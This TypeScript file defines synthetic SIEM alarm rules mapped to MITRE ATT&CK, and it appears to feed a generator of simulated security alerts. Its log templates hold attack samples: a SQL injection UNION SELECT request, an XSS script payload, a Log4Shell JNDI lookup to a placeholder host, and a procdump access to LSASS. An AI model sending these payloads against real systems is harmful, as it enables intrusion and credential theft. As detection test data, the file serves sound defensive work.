// The synthetic rule taxonomy: intent -> strategy -> method, modelled on USM Anywhere's
// correlation rules, each with its MITRE ATT&CK mapping and the kind of event that triggers it.

/** Who talks to whom: inbound = external source -> internal destination, and so on. */
export type Direction = "inbound" | "outbound" | "lateral";

export interface EventTemplate {
  name: string;
  category: string;
  subcategory: string;
  severity: "low" | "medium" | "high";
  plugin: string;
  pluginDevice: string;
  port: number;
  transport: "TCP" | "UDP";
  /** Placeholders: {ts} {clfts} {host} {src} {sport} {dst} {dport} {user} {domain} {baddomain} {pid}. */
  log: string;
}

export interface Rule {
  id: string;
  intent: string;
  strategy: string;
  method: string;
  dictionary: string;
  attackId: string;
  technique: string;
  tactics: readonly string[];
  /** Centre of the priority distribution (0-100). */
  priority: number;
  /** Relative frequency among generated alarms. */
  weight: number;
  direction: Direction;
  /** alarm_events_count range, drawn log-uniformly. */
  events: readonly [number, number];
  /** Whether the events carry a user name (source_username). */
  user: boolean;
  /** Most destinations one alarm names (scans touch many hosts). */
  fanOut: number;
  suppressRate: number;
  event: EventTemplate;
}

const SSH_FAIL =
  "{ts} {host} sshd[{pid}]: Failed password for invalid user {user} from {src} port {sport} ssh2";
const WIN_LOGON =
  "An account failed to log on. Account Name: {user} Source Network Address: {src} Logon Type: 10";

function rule(r: Rule): Rule {
  return r;
}

// One rule per two lines reads as a table; prettier would spread it over 700 lines.
// prettier-ignore
export const RULES: readonly Rule[] = [
  rule({ id: "BruteForceSSH", intent: "Delivery & Attack", strategy: "Brute Force Authentication", method: "SSH", dictionary: "Authentication", attackId: "T1110", technique: "Brute Force", tactics: ["Credential Access"], priority: 55, weight: 14, direction: "inbound", events: [20, 4000], user: true, fanOut: 1, suppressRate: 0.12,
    event: { name: "SSH Authentication Failure", category: "Authentication", subcategory: "Failed Login", severity: "medium", plugin: "Linux SSH", pluginDevice: "Linux", port: 22, transport: "TCP", log: SSH_FAIL } }),
  rule({ id: "BruteForceRDP", intent: "Delivery & Attack", strategy: "Brute Force Authentication", method: "Windows RDP", dictionary: "Authentication", attackId: "T1110", technique: "Brute Force", tactics: ["Credential Access"], priority: 60, weight: 9, direction: "inbound", events: [20, 3000], user: true, fanOut: 1, suppressRate: 0.1,
    event: { name: "Windows Logon Failure", category: "Authentication", subcategory: "Failed Login", severity: "medium", plugin: "Microsoft Windows", pluginDevice: "Windows", port: 3389, transport: "TCP", log: WIN_LOGON } }),
  rule({ id: "BruteForceO365", intent: "Delivery & Attack", strategy: "Brute Force Authentication", method: "Office 365", dictionary: "CloudAuthentication", attackId: "T1110.003", technique: "Password Spraying", tactics: ["Credential Access"], priority: 50, weight: 6, direction: "inbound", events: [10, 1500], user: true, fanOut: 1, suppressRate: 0.08,
    event: { name: "UserLoginFailed", category: "Authentication", subcategory: "Failed Login", severity: "medium", plugin: "Office 365", pluginDevice: "Office 365", port: 443, transport: "TCP", log: "Operation=UserLoginFailed UserId={user}@{domain} ClientIP={src} ResultStatus=Failed LogonError=InvalidUserNameOrPassword" } }),
  rule({ id: "BruteForceFTP", intent: "Delivery & Attack", strategy: "Brute Force Authentication", method: "FTP", dictionary: "Authentication", attackId: "T1110.001", technique: "Password Guessing", tactics: ["Credential Access"], priority: 40, weight: 3, direction: "inbound", events: [15, 900], user: true, fanOut: 1, suppressRate: 0.15,
    event: { name: "FTP Login Failure", category: "Authentication", subcategory: "Failed Login", severity: "low", plugin: "vsftpd", pluginDevice: "Linux", port: 21, transport: "TCP", log: "{ts} {host} vsftpd[{pid}]: [{user}] FAIL LOGIN: Client \"{src}\"" } }),
  rule({ id: "BruteForceVPN", intent: "Delivery & Attack", strategy: "Brute Force Authentication", method: "VPN", dictionary: "Authentication", attackId: "T1110", technique: "Brute Force", tactics: ["Credential Access"], priority: 58, weight: 4, direction: "inbound", events: [20, 2500], user: true, fanOut: 1, suppressRate: 0.1,
    event: { name: "VPN Authentication Rejected", category: "Authentication", subcategory: "Failed Login", severity: "medium", plugin: "Fortinet FortiGate", pluginDevice: "Firewall", port: 443, transport: "TCP", log: "type=event subtype=vpn action=ssl-login-fail user=\"{user}\" remip={src} reason=\"sslvpn_login_permission_denied\"" } }),
  rule({ id: "WebAttackSQLi", intent: "Delivery & Attack", strategy: "Web Application Attack", method: "SQL Injection", dictionary: "WebAttacks", attackId: "T1190", technique: "Exploit Public-Facing Application", tactics: ["Initial Access"], priority: 62, weight: 6, direction: "inbound", events: [1, 200], user: false, fanOut: 1, suppressRate: 0.1,
    event: { name: "ET WEB_SERVER Possible SQL Injection Attempt UNION SELECT", category: "Exploit", subcategory: "SQL Injection", severity: "high", plugin: "AlienVault NIDS", pluginDevice: "NIDS", port: 443, transport: "TCP", log: "{src}:{sport} -> {dst}:{dport} GET /products.php?id=1%20UNION%20SELECT%20username,password%20FROM%20users HTTP/1.1" } }),
  rule({ id: "WebAttackXSS", intent: "Delivery & Attack", strategy: "Web Application Attack", method: "Cross-Site Scripting", dictionary: "WebAttacks", attackId: "T1190", technique: "Exploit Public-Facing Application", tactics: ["Initial Access"], priority: 45, weight: 4, direction: "inbound", events: [1, 120], user: false, fanOut: 1, suppressRate: 0.12,
    event: { name: "ET WEB_SERVER Script tag in URI Possible Cross Site Scripting Attempt", category: "Exploit", subcategory: "Cross-Site Scripting", severity: "medium", plugin: "AlienVault NIDS", pluginDevice: "NIDS", port: 80, transport: "TCP", log: "{src}:{sport} -> {dst}:{dport} GET /search?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1" } }),
  rule({ id: "PhishingAttachment", intent: "Delivery & Attack", strategy: "Phishing", method: "Malicious attachment", dictionary: "Email", attackId: "T1566.001", technique: "Spearphishing Attachment", tactics: ["Initial Access"], priority: 68, weight: 4, direction: "inbound", events: [1, 12], user: true, fanOut: 3, suppressRate: 0.05,
    event: { name: "Malicious Attachment Detected", category: "Malware", subcategory: "Email Attachment", severity: "high", plugin: "Proofpoint", pluginDevice: "Email Gateway", port: 25, transport: "TCP", log: "action=quarantine recipient={user}@{domain} sender_ip={src} attachment=Invoice_{pid}.xlsm verdict=malicious" } }),
  rule({ id: "PortScanSYN", intent: "Reconnaissance & Probing", strategy: "Network Scanning", method: "Nmap SYN scan", dictionary: "Scanning", attackId: "T1046", technique: "Network Service Discovery", tactics: ["Discovery"], priority: 25, weight: 10, direction: "inbound", events: [30, 3000], user: false, fanOut: 6, suppressRate: 0.2,
    event: { name: "ET SCAN NMAP -sS window 1024", category: "Reconnaissance", subcategory: "Port Scan", severity: "low", plugin: "AlienVault NIDS", pluginDevice: "NIDS", port: 445, transport: "TCP", log: "{src}:{sport} -> {dst}:{dport} TCP SYN window=1024 ttl=43" } }),
  rule({ id: "PortSweepInternal", intent: "Reconnaissance & Probing", strategy: "Network Scanning", method: "Port sweep", dictionary: "Scanning", attackId: "T1046", technique: "Network Service Discovery", tactics: ["Discovery"], priority: 35, weight: 4, direction: "lateral", events: [50, 2000], user: false, fanOut: 8, suppressRate: 0.15,
    event: { name: "Internal Port Sweep", category: "Reconnaissance", subcategory: "Port Sweep", severity: "low", plugin: "AlienVault NIDS", pluginDevice: "NIDS", port: 139, transport: "TCP", log: "{src}:{sport} -> {dst}:{dport} TCP SYN sweep" } }),
  rule({ id: "LDAPEnumeration", intent: "Reconnaissance & Probing", strategy: "Account Discovery", method: "LDAP enumeration", dictionary: "WindowsEvents", attackId: "T1087.002", technique: "Domain Account", tactics: ["Discovery"], priority: 42, weight: 3, direction: "lateral", events: [10, 500], user: true, fanOut: 1, suppressRate: 0.1,
    event: { name: "Directory Service Access", category: "Discovery", subcategory: "LDAP Query", severity: "low", plugin: "Microsoft Windows", pluginDevice: "Windows", port: 389, transport: "TCP", log: "EventID=4662 An operation was performed on an object. Subject: {user} Object Type: user Client Address: {src}" } }),
  rule({ id: "WebDirectoryBruteForce", intent: "Reconnaissance & Probing", strategy: "Web Scanning", method: "Directory brute force", dictionary: "WebAttacks", attackId: "T1595.003", technique: "Wordlist Scanning", tactics: ["Reconnaissance"], priority: 22, weight: 6, direction: "inbound", events: [40, 3500], user: false, fanOut: 1, suppressRate: 0.25,
    event: { name: "HTTP 404 Flood", category: "Reconnaissance", subcategory: "Web Scan", severity: "low", plugin: "Apache", pluginDevice: "Web Server", port: 443, transport: "TCP", log: "{src} - - [{clfts}] \"GET /admin/backup.zip HTTP/1.1\" 404 196 \"-\" \"gobuster/3.6\"" } }),
  rule({ id: "Log4ShellExploit", intent: "Exploitation & Installation", strategy: "Remote Code Execution", method: "Apache Log4j (CVE-2021-44228)", dictionary: "Exploits", attackId: "T1190", technique: "Exploit Public-Facing Application", tactics: ["Initial Access"], priority: 85, weight: 3, direction: "inbound", events: [1, 60], user: false, fanOut: 2, suppressRate: 0.03,
    event: { name: "ET EXPLOIT Apache log4j RCE Attempt (CVE-2021-44228)", category: "Exploit", subcategory: "Remote Code Execution", severity: "high", plugin: "AlienVault NIDS", pluginDevice: "NIDS", port: 8080, transport: "TCP", log: "{src}:{sport} -> {dst}:{dport} GET / HTTP/1.1 User-Agent: ${jndi:ldap://{src}:1389/a}" } }),
  rule({ id: "NewScheduledTask", intent: "Exploitation & Installation", strategy: "Persistence", method: "New scheduled task", dictionary: "WindowsEvents", attackId: "T1053.005", technique: "Scheduled Task", tactics: ["Execution", "Persistence", "Privilege Escalation"], priority: 48, weight: 4, direction: "lateral", events: [1, 5], user: true, fanOut: 1, suppressRate: 0.12,
    event: { name: "Scheduled Task Created", category: "System", subcategory: "Scheduled Task", severity: "medium", plugin: "Microsoft Windows", pluginDevice: "Windows", port: 135, transport: "TCP", log: "EventID=4698 A scheduled task was created. Subject: {user} Task Name: \\Microsoft\\Windows\\Update{pid}" } }),
  rule({ id: "NewServiceInstalled", intent: "Exploitation & Installation", strategy: "Persistence", method: "New Windows service installed", dictionary: "WindowsEvents", attackId: "T1543.003", technique: "Windows Service", tactics: ["Persistence", "Privilege Escalation"], priority: 52, weight: 3, direction: "lateral", events: [1, 4], user: true, fanOut: 1, suppressRate: 0.1,
    event: { name: "A service was installed in the system", category: "System", subcategory: "Service Install", severity: "medium", plugin: "Microsoft Windows", pluginDevice: "Windows", port: 445, transport: "TCP", log: "EventID=7045 A service was installed in the system. Service Name: svc{pid} Account: {user}" } }),
  rule({ id: "WebShellUpload", intent: "Exploitation & Installation", strategy: "Web Shell", method: "Suspicious file upload", dictionary: "WebAttacks", attackId: "T1505.003", technique: "Web Shell", tactics: ["Persistence"], priority: 78, weight: 2, direction: "inbound", events: [1, 30], user: false, fanOut: 1, suppressRate: 0.04,
    event: { name: "Possible Web Shell Upload", category: "Exploit", subcategory: "File Upload", severity: "high", plugin: "Apache", pluginDevice: "Web Server", port: 443, transport: "TCP", log: "{src} - - [{clfts}] \"POST /uploads/cmd.php HTTP/1.1\" 200 412 \"-\" \"Mozilla/5.0\"" } }),
  rule({ id: "MaliciousDomainDNS", intent: "System Compromise", strategy: "Malware Infection", method: "Known malicious domain", dictionary: "OTX", attackId: "T1071.004", technique: "Application Layer Protocol: DNS", tactics: ["Command and Control"], priority: 72, weight: 6, direction: "outbound", events: [1, 400], user: false, fanOut: 1, suppressRate: 0.08,
    event: { name: "DNS Query to Known Malicious Domain", category: "Malware", subcategory: "C&C Communication", severity: "high", plugin: "Cisco Umbrella", pluginDevice: "DNS", port: 53, transport: "UDP", log: "query: {baddomain} IN A from {src}#{sport} blocked=false otx_pulse=malware-c2" } }),
  rule({ id: "RansomwareActivity", intent: "System Compromise", strategy: "Malware Infection", method: "Ransomware", dictionary: "Malware", attackId: "T1486", technique: "Data Encrypted for Impact", tactics: ["Impact"], priority: 95, weight: 1, direction: "lateral", events: [5, 2000], user: true, fanOut: 3, suppressRate: 0.02,
    event: { name: "Mass File Rename Detected", category: "Malware", subcategory: "Ransomware", severity: "high", plugin: "AlienVault Agent", pluginDevice: "Endpoint", port: 445, transport: "TCP", log: "osquery file_events: {user} renamed 1274 files to *.locked on \\\\{dst}\\share" } }),
  rule({ id: "CobaltStrikeBeacon", intent: "System Compromise", strategy: "Malware Infection", method: "Cobalt Strike beacon", dictionary: "Malware", attackId: "T1071.001", technique: "Application Layer Protocol: Web Protocols", tactics: ["Command and Control"], priority: 90, weight: 2, direction: "outbound", events: [3, 1500], user: false, fanOut: 1, suppressRate: 0.03,
    event: { name: "ET MALWARE Cobalt Strike Beacon Observed", category: "Malware", subcategory: "C&C Communication", severity: "high", plugin: "AlienVault NIDS", pluginDevice: "NIDS", port: 443, transport: "TCP", log: "{src}:{sport} -> {dst}:{dport} GET /jquery-3.3.1.min.js HTTP/1.1 Cookie: __cfduid=beacon" } }),
  rule({ id: "OTXIndicatorOfCompromise", intent: "System Compromise", strategy: "Communication with Known Bad Actor", method: "OTX indicator of compromise", dictionary: "OTX", attackId: "T1071", technique: "Application Layer Protocol", tactics: ["Command and Control"], priority: 66, weight: 5, direction: "outbound", events: [1, 300], user: false, fanOut: 1, suppressRate: 0.1,
    event: { name: "Connection to OTX Indicator", category: "Malware", subcategory: "Known Bad IP", severity: "high", plugin: "Palo Alto Networks PAN-OS", pluginDevice: "Firewall", port: 443, transport: "TCP", log: "TRAFFIC,allow,{src},{dst},{sport},{dport},ssl,otx-indicator" } }),
  rule({ id: "LSASSAccess", intent: "System Compromise", strategy: "Credential Dumping", method: "LSASS memory access", dictionary: "Sysmon", attackId: "T1003.001", technique: "OS Credential Dumping: LSASS Memory", tactics: ["Credential Access"], priority: 88, weight: 2, direction: "lateral", events: [1, 8], user: true, fanOut: 1, suppressRate: 0.03,
    event: { name: "Process Accessed LSASS", category: "Credential Access", subcategory: "Credential Dumping", severity: "high", plugin: "Microsoft Sysmon", pluginDevice: "Windows", port: 445, transport: "TCP", log: "EventID=10 SourceImage=C:\\Users\\{user}\\AppData\\Local\\Temp\\procdump64.exe TargetImage=C:\\Windows\\system32\\lsass.exe GrantedAccess=0x1010" } }),
  rule({ id: "LargeOutboundTransfer", intent: "System Compromise", strategy: "Data Exfiltration", method: "Large outbound transfer", dictionary: "Network", attackId: "T1048", technique: "Exfiltration Over Alternative Protocol", tactics: ["Exfiltration"], priority: 70, weight: 2, direction: "outbound", events: [1, 150], user: false, fanOut: 1, suppressRate: 0.06,
    event: { name: "Unusually Large Outbound Transfer", category: "Exfiltration", subcategory: "Data Transfer", severity: "high", plugin: "Palo Alto Networks PAN-OS", pluginDevice: "Firewall", port: 22, transport: "TCP", log: "TRAFFIC,allow,{src},{dst},{sport},{dport},ssh,bytes_sent=4831838208" } }),
  rule({ id: "LoginFromNewCountry", intent: "Environmental Awareness", strategy: "Anomalous User Behavior", method: "Login from new country", dictionary: "CloudAuthentication", attackId: "T1078", technique: "Valid Accounts", tactics: ["Defense Evasion", "Persistence", "Privilege Escalation", "Initial Access"], priority: 38, weight: 6, direction: "inbound", events: [1, 6], user: true, fanOut: 1, suppressRate: 0.12,
    event: { name: "UserLoggedIn", category: "Authentication", subcategory: "Successful Login", severity: "medium", plugin: "Office 365", pluginDevice: "Office 365", port: 443, transport: "TCP", log: "Operation=UserLoggedIn UserId={user}@{domain} ClientIP={src} ResultStatus=Succeeded" } }),
  rule({ id: "AWSRootLogin", intent: "Environmental Awareness", strategy: "Cloud Security", method: "AWS root account login", dictionary: "CloudTrail", attackId: "T1078.004", technique: "Cloud Accounts", tactics: ["Defense Evasion", "Persistence", "Privilege Escalation", "Initial Access"], priority: 64, weight: 2, direction: "inbound", events: [1, 3], user: true, fanOut: 1, suppressRate: 0.05,
    event: { name: "ConsoleLogin", category: "Authentication", subcategory: "Cloud Console Login", severity: "high", plugin: "AWS CloudTrail", pluginDevice: "AWS", port: 443, transport: "TCP", log: "{\"eventName\":\"ConsoleLogin\",\"userIdentity\":{\"type\":\"Root\"},\"sourceIPAddress\":\"{src}\",\"responseElements\":{\"ConsoleLogin\":\"Success\"}}" } }),
  rule({ id: "TorExitNodeTraffic", intent: "Environmental Awareness", strategy: "Policy Violation", method: "Tor exit node traffic", dictionary: "OTX", attackId: "T1090.003", technique: "Multi-hop Proxy", tactics: ["Command and Control"], priority: 30, weight: 5, direction: "outbound", events: [1, 800], user: false, fanOut: 1, suppressRate: 0.18,
    event: { name: "Traffic to Tor Exit Node", category: "Policy", subcategory: "Anonymizer", severity: "low", plugin: "Cisco ASA", pluginDevice: "Firewall", port: 9001, transport: "TCP", log: "%ASA-6-302013: Built outbound TCP connection for outside:{dst}/{dport} to inside:{src}/{sport}" } }),
  rule({ id: "AuditLogCleared", intent: "Environmental Awareness", strategy: "Security Critical Event", method: "Audit log cleared", dictionary: "WindowsEvents", attackId: "T1070.001", technique: "Indicator Removal: Clear Windows Event Logs", tactics: ["Defense Evasion"], priority: 67, weight: 2, direction: "lateral", events: [1, 2], user: true, fanOut: 1, suppressRate: 0.05,
    event: { name: "The audit log was cleared", category: "System", subcategory: "Audit Log Cleared", severity: "high", plugin: "Microsoft Windows", pluginDevice: "Windows", port: 445, transport: "TCP", log: "EventID=1102 The audit log was cleared. Subject: Account Name: {user}" } }),
  rule({ id: "PrivilegedGroupChange", intent: "Environmental Awareness", strategy: "Account Manipulation", method: "User added to privileged group", dictionary: "WindowsEvents", attackId: "T1098", technique: "Account Manipulation", tactics: ["Persistence", "Privilege Escalation"], priority: 46, weight: 3, direction: "lateral", events: [1, 3], user: true, fanOut: 1, suppressRate: 0.15,
    event: { name: "A member was added to a security-enabled global group", category: "Account Management", subcategory: "Group Membership", severity: "medium", plugin: "Microsoft Windows", pluginDevice: "Windows", port: 389, transport: "TCP", log: "EventID=4728 A member was added to a security-enabled global group. Subject: {user} Group: Domain Admins" } }),
];

export const RULE_WEIGHTS: readonly number[] = RULES.map((r) => r.weight);
